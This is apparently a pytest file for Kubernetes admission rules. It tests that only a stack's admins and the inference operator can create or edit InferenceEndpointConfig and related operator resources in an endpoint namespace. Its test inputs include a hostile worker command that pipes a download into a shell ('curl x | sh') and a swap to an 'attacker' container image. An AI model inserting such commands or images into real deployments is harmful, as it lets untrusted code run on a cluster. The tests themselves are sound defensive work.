"""Only the admins (`pulumi up` among them) and the operator write what the inference operator
runs in an endpoint's namespace (specs/isolation/operator_resources.py): the stacks' own
InferenceEndpointConfigs are admitted from the deploying role, anyone else's create or edit of
one (or of a JumpStartModel, or any kind of the operator's API group) is refused."""

from __future__ import annotations

import copy

import pytest

from core.vocabulary import IEC_API_VERSION, IEC_KIND
from tests.specs.isolation.admission_review import Request, admit
from tests.specs.isolation.conftest import ADMIN, ADMIN_GROUPS, NS, OPERATOR
from tests.specs.isolation.operator_pods import USER

GROUP, VERSION = IEC_API_VERSION.split("/")
GARBAGE_COLLECTOR = "system:serviceaccount:kube-system:generic-garbage-collector"
KEDA = "system:serviceaccount:hyperpod-inference-system:keda-operator"


def _request(operation, obj, username, old=None, groups=("system:authenticated",), **kind):
    kind = {"group": GROUP, "version": VERSION, "resource": "inferenceendpointconfigs", **kind}
    namespace = obj["metadata"].get("namespace", NS)
    return Request(operation, namespace, username, obj, old, groups=groups, **kind)


def _iecs(manifests):
    return [m for m in manifests if m["kind"] == IEC_KIND]


def test_every_stacks_endpoints_are_admitted_from_the_deploying_role(stack):
    name, manifests = stack
    for iec in _iecs(manifests):
        decision = admit(manifests, _request("CREATE", iec, ADMIN, groups=ADMIN_GROUPS))
        assert decision.allowed, (name, iec["metadata"]["name"], decision.messages)


def test_a_user_who_may_create_them_cannot_choose_what_the_operator_runs(dev):
    iec = copy.deepcopy(_iecs(dev)[0])
    iec["spec"]["worker"]["image"] = "attacker/vllm:latest"
    decision = admit(dev, _request("CREATE", iec, USER))
    assert not decision.allowed
    assert decision.messages == [
        f"InferenceEndpointConfig objects in {NS} say what the inference operator runs: only "
        f"the stack's admins create them or change their spec, labels or annotations, not {USER}"
    ]
    assert admit(dev, _request("CREATE", iec, OPERATOR)).allowed


@pytest.mark.parametrize(
    "change",
    [
        lambda o: o["spec"]["worker"].update(image="attacker/vllm:latest"),
        lambda o: o["spec"]["worker"].update(command=["sh", "-c", "curl x | sh"]),
        lambda o: o["spec"].setdefault("kubernetes", {}).update(serviceAccountName="default"),
        lambda o: o["metadata"].setdefault("labels", {}).update(team="ml"),
        lambda o: o["metadata"].setdefault("annotations", {}).update(note="x"),
    ],
    ids=["image", "command", "service account", "labels", "annotations"],
)
def test_a_user_cannot_change_a_running_endpoint(dev, change):
    old = _iecs(dev)[0]
    new = copy.deepcopy(old)
    change(new)
    assert not admit(dev, _request("UPDATE", new, USER, old)).allowed
    assert admit(dev, _request("UPDATE", new, ADMIN, old, groups=ADMIN_GROUPS)).allowed


def test_bookkeeping_and_scaling_stay_open(dev):
    """The garbage collector's and the operator's metadata (finalizers, owner references) pass;
    an autoscaler's replicas go through the scale subresource, which the policy does not match."""
    old = _iecs(dev)[0]
    new = copy.deepcopy(old)
    new["metadata"]["finalizers"] = []
    assert admit(dev, _request("UPDATE", new, GARBAGE_COLLECTOR, old)).allowed
    scale = {"apiVersion": "autoscaling/v1", "kind": "Scale",
             "metadata": {"name": old["metadata"]["name"]}, "spec": {"replicas": 3}}  # fmt: skip
    request = _request("UPDATE", scale, KEDA, scale, resource="inferenceendpointconfigs",
                       sub_resource="scale")  # fmt: skip
    assert admit(dev, request).allowed


@pytest.mark.parametrize(
    ("kind", "resource"),
    [
        ("JumpStartModel", "jumpstartmodels"),
        ("ModelImageCache", "modelimagecaches"),
        ("SageMakerEndpointRegistration", "sagemakerendpointregistrations"),
    ],
)
def test_every_kind_of_the_operators_group_is_guarded(dev, kind, resource):
    obj = {"apiVersion": IEC_API_VERSION, "kind": kind,
           "metadata": {"name": "x", "namespace": NS}, "spec": {"model": {"modelId": "x"}}}  # fmt: skip
    assert not admit(dev, _request("CREATE", obj, USER, resource=resource)).allowed
    assert admit(dev, _request("CREATE", obj, OPERATOR, resource=resource)).allowed
    # Through the group's other served version too.
    other = _request("CREATE", obj, USER, resource=resource, version="v1alpha1")
    assert not admit(dev, other).allowed


def test_other_namespaces_are_not_guarded(dev):
    iec = copy.deepcopy(_iecs(dev)[0])
    iec["metadata"]["namespace"] = "team-b"
    assert admit(dev, _request("CREATE", iec, USER)).allowed
